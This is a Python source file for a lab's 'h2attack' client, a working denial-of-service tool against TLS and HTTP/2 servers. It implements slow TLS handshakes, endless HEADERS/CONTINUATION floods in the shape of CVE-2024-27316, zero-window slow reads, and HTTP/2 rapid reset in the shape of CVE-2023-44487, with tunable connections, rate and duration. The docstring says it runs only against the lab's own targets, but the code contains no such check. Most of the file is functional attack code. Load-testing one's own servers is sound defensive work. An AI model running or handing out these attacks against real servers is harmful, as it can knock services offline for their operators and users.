"""Flowdar's TLS and HTTP/2 attack client (issue #29), run by the lab with
Debian's python3 and python3-h2 (h2, hpack, hyperframe), only against the
lab's own targets (the lab checks the address first), bounded in
connections, rate and time.

Kinds:
  tls-handshake    a real ClientHello, sent but for its last byte, then
                   held (one byte short) until the server gives up
  h2-slow-headers  HTTP/2 streams whose HEADERS never end: a HEADERS frame
                   without END_HEADERS, then one small CONTINUATION per
                   interval, never the last
  h2-continuation  CVE-2024-27316's shape: HEADERS without END_HEADERS,
                   then CONTINUATION frames of 1 KiB at --rate a second
  h2-slow-read     requests for a large response through a zero stream
                   window, opened 16 bytes per interval
  h2-rapid-reset   CVE-2023-44487's shape: HEADERS then RST_STREAM at once,
                   --rate streams a second over --connections connections

At the end (--duration, or SIGTERM) one JSON line on stdout counts what was
sent: connections opened and still held, streams opened and reset, frames
and bytes, GOAWAYs and connections the server closed.
"""

import argparse
import json
import signal
import socket
import ssl
import sys
import threading
import time

import h2
import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
import hpack
import hyperframe
from hyperframe.frame import ContinuationFrame, HeadersFrame

STOP = threading.Event()
LOCK = threading.Lock()
COUNTS = {
    "connections_opened": 0,
    "connections_failed": 0,
    "connections_closed_by_server": 0,
    "streams_opened": 0,
    "streams_refused": 0,
    "streams_reset": 0,
    "frames_sent": 0,
    "bytes_sent": 0,
    "goaways": 0,
}
HELD = set()


def count(key, n=1):
    with LOCK:
        COUNTS[key] += n


def send(sock, data, frames=1):
    sock.sendall(data)
    count("frames_sent", frames)
    count("bytes_sent", len(data))


def tls_context(alpn):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    if alpn:
        ctx.set_alpn_protocols(alpn)
    return ctx


def connect(args):
    source = (args.source, 0) if args.source else None
    sock = socket.create_connection(args.target, timeout=10, source_address=source)
    count("connections_opened")
    return sock


def h2_connect(args):
    """A TLS connection that agreed on h2, its preface and SETTINGS sent."""
    raw = connect(args)
    sock = tls_context(["h2"]).wrap_socket(raw, server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise OSError("the server did not agree on h2 (ALPN)")
    conn = h2.connection.H2Connection(
        h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
    )
    settings = {}
    if args.kind == "h2-slow-read":
        settings[h2.settings.SettingCodes.INITIAL_WINDOW_SIZE] = 0
    conn.initiate_connection()
    if settings:
        conn.update_settings(settings)
    send(sock, conn.data_to_send())
    # The server's SETTINGS, acknowledged before any stream: nothing may
    # come between a HEADERS frame and its CONTINUATIONs.
    while True:
        data = sock.recv(65536)
        if not data:
            raise OSError("the server closed the connection before its SETTINGS")
        if any(isinstance(ev, h2.events.RemoteSettingsChanged)
               for ev in conn.receive_data(data)):
            break
    send(sock, conn.data_to_send())
    return sock, conn


def request_headers(args):
    return [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", "localhost"),
        (":path", args.path),
    ]


def held(sock):
    """Marks the connection held while the block runs."""

    class Held:
        def __enter__(self):
            with LOCK:
                HELD.add(id(sock))

        def __exit__(self, *exc):
            with LOCK:
                HELD.discard(id(sock))

    return Held()


def refused(conn, sent):
    """Streams of `sent` past the server's GOAWAY (never processed)."""
    last = getattr(conn, "flowdar_goaway_last", None)
    if last is None:
        return 0
    return sum(1 for sid in sent if sid > last)


def server_closed(sock, conn=None, reply=True):
    """Reads what the server sent without waiting; True once it closed.
    With `reply`, answers it (pings, settings)."""
    sock.settimeout(0.0)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                count("connections_closed_by_server")
                return True
            if conn is not None:
                for ev in conn.receive_data(data):
                    if isinstance(ev, h2.events.ConnectionTerminated):
                        count("goaways")
                        # The first says which streams were processed
                        # (mod_http2 follows it with a last id of 0).
                        if getattr(conn, "flowdar_goaway_last", None) is None:
                            conn.flowdar_goaway_last = ev.last_stream_id
                out = conn.data_to_send()
                if out and reply:
                    sock.sendall(out)
    except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
        return False
    except (OSError, h2.exceptions.ProtocolError):
        count("connections_closed_by_server")
        return True
    finally:
        sock.settimeout(10)


def wait(seconds):
    return STOP.wait(seconds)


def tls_handshake(args):
    # A real ClientHello, from OpenSSL itself, sent but for its last byte.
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = tls_context(["h2", "http/1.1"]).wrap_bio(
        incoming, outgoing, server_hostname="localhost"
    )
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    sock = connect(args)
    send(sock, hello[:-1])
    with held(sock):
        while not wait(args.interval):
            if server_closed(sock):
                return
    sock.close()


def header_block_pieces(args):
    """The request's header block, then endless small extra fields."""
    enc = hpack.Encoder()
    yield enc.encode(request_headers(args))
    n = 0
    while True:
        n += 1
        yield enc.encode([("x-flowdar-%d" % n, "a" * args.field_bytes)], huffman=False)


def unended_headers(args, pace):
    """HEADERS without END_HEADERS, then a CONTINUATION per `pace()`."""
    sock, conn = h2_connect(args)
    pieces = header_block_pieces(args)
    frame = HeadersFrame(1)
    frame.flags.add("END_STREAM")
    frame.data = next(pieces)
    send(sock, frame.serialize())
    count("streams_opened")
    with held(sock):
        while not wait(pace()):
            if server_closed(sock, conn, reply=False):
                return
            cont = ContinuationFrame(1)
            cont.data = next(pieces)
            try:
                send(sock, cont.serialize())
            except OSError:
                count("connections_closed_by_server")
                return
    sock.close()


def slow_read(args):
    sock, conn = h2_connect(args)
    for i in range(args.streams):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, request_headers(args), end_stream=True)
        count("streams_opened")
    send(sock, conn.data_to_send(), frames=args.streams)
    with held(sock):
        while not wait(args.interval):
            if server_closed(sock, conn):
                return
            for sid in list(conn.streams):
                try:
                    conn.increment_flow_control_window(16, stream_id=sid)
                except h2.exceptions.ProtocolError:
                    pass
            out = conn.data_to_send()
            if out:
                send(sock, out, frames=len(conn.streams))
    sock.close()


def rapid_reset(args):
    per_conn = max(args.rate / max(args.connections, 1), 1.0)
    while not STOP.is_set():
        sock, conn = h2_connect(args)
        sent = []
        next_at = time.monotonic()
        while not STOP.is_set():
            try:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, request_headers(args), end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                send(sock, conn.data_to_send(), frames=2)
            except (OSError, h2.exceptions.ProtocolError):
                # Read what came before the end (the GOAWAY).
                server_closed(sock, conn, reply=False)
                break
            sent.append(sid)
            if server_closed(sock, conn):
                break
            if getattr(conn, "flowdar_goaway_last", None) is not None:
                server_closed(sock, conn, reply=False)
                break
            next_at += 1.0 / per_conn
            delay = next_at - time.monotonic()
            if delay > 0 and wait(delay):
                break
        gone = refused(conn, sent)
        count("streams_opened", len(sent) - gone)
        count("streams_reset", len(sent) - gone)
        count("streams_refused", gone)
        sock.close()


def one_connection(args, kind):
    try:
        if kind == "tls-handshake":
            tls_handshake(args)
        elif kind == "h2-slow-headers":
            unended_headers(args, lambda: args.interval)
        elif kind == "h2-continuation":
            unended_headers(args, lambda: 1.0 / max(args.rate, 1))
        elif kind == "h2-slow-read":
            slow_read(args)
        elif kind == "h2-rapid-reset":
            rapid_reset(args)
    except OSError:
        count("connections_failed")


def main():
    p = argparse.ArgumentParser(prog="h2attack", description=__doc__.split("\n\n")[0])
    p.add_argument("kind", choices=[
        "tls-handshake", "h2-slow-headers", "h2-continuation", "h2-slow-read",
        "h2-rapid-reset"])
    p.add_argument("--host", required=True)
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--path", default="/")
    p.add_argument("--source", help="address to connect from (e.g. 127.0.0.2)")
    p.add_argument("--connections", type=int, required=True)
    p.add_argument("--rate", type=int, required=True,
                   help="new connections a second; h2-rapid-reset: streams a "
                   "second in all; h2-continuation: frames a second on each")
    p.add_argument("--interval", type=float, default=5.0)
    p.add_argument("--duration", type=float, required=True)
    p.add_argument("--streams", type=int, default=8,
                   help="h2-slow-read: streams held on each connection")
    p.add_argument("--field-bytes", type=int, default=1000)
    args = p.parse_args()
    args.target = (args.host, args.port)
    if not (0 < args.connections <= 10000 and 0 < args.rate <= 100000
            and 0 < args.duration <= 3600):
        sys.exit("h2attack: connections, rate or duration out of bounds")
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    started = time.monotonic()
    deadline = started + args.duration
    threads = []
    # Connections at --rate a second (rapid reset opens them all at once:
    # its rate is in streams).
    gap = 0.0 if args.kind == "h2-rapid-reset" else 1.0 / args.rate
    for i in range(args.connections):
        if STOP.is_set() or time.monotonic() >= deadline:
            break
        t = threading.Thread(target=one_connection, args=(args, args.kind), daemon=True)
        t.start()
        threads.append(t)
        if gap:
            STOP.wait(gap)
    STOP.wait(max(deadline - time.monotonic(), 0))
    with LOCK:
        still_held = len(HELD)
    # Every connection's thread adds its last counts as it ends.
    STOP.set()
    until = time.monotonic() + 3
    for t in threads:
        t.join(max(until - time.monotonic(), 0))
    with LOCK:
        out = dict(COUNTS)
    out["connections_held"] = still_held
    out.update({
        "kind": args.kind,
        "seconds": round(time.monotonic() - started, 3),
        "versions": {
            "python": sys.version.split()[0],
            "h2": h2.__version__,
            "hpack": hpack.__version__,
            "hyperframe": hyperframe.__version__,
            "openssl": ssl.OPENSSL_VERSION,
        },
    })
    print(json.dumps(out), flush=True)


if __name__ == "__main__":
    main()
